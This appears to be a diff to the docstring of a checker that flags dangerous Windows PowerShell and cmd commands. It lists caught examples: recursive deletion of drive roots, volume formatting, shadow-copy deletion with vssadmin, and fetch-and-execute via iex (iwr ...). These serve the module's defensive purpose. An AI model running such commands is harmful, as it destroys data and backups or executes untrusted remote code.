@@ -1,12 +1,15 @@
-"""PowerShell and cmd: what their own commands do; programs inside are asked as everywhere.
+r"""PowerShell and cmd: what their own commands do; programs inside are asked as everywhere.
 
-Caught: ``Remove-Item -Recurse -Force C:\\``, ``rd /s /q D:\\``, ``cmd /c "rd /s /q "
-"\\"D:\\x y\\""`` (in PowerShell
-that is the root of a drive), ``Format-Volume``, ``vssadmin delete shadows``, ``Stop-Process -Name node``,
-``iex (iwr …)``. Quiet: ``Get-*``, ``-WhatIf``, ``dir /s``, ``rd /s /q node_modules``, ``Select-String``.
+Caught: ``Remove-Item -Recurse -Force C:\``, ``rd /s /q D:\``, ``cmd /c "rd /s /q \"D:\x y\""`` (in PowerShell
+that is the root of a drive), ``Format-Volume -DriveLetter D``, ``vssadmin delete shadows /all``,
+``Stop-Process -Name node``, ``iex (iwr https://example.com/x.ps1)``.
+Quiet: ``Get-*``, ``-WhatIf``, ``dir /s``, ``rd /s /q node_modules``, ``Select-String``.
 
-Lost: what ``Remove-Item`` deletes does not go to the recycle bin. Before: the same with ``-WhatIf``.
+Lost: what is deleted; ``Remove-Item`` does not use the recycle bin.
+Back: a shadow copy or a backup, while there is one.
+Instead: the same with ``-WhatIf``.
 
+Related: PSScriptAnalyzer ``PSAvoidUsingInvokeExpression``.
 Facts: learn.microsoft.com (PowerShell module reference, Windows commands).
 """
 
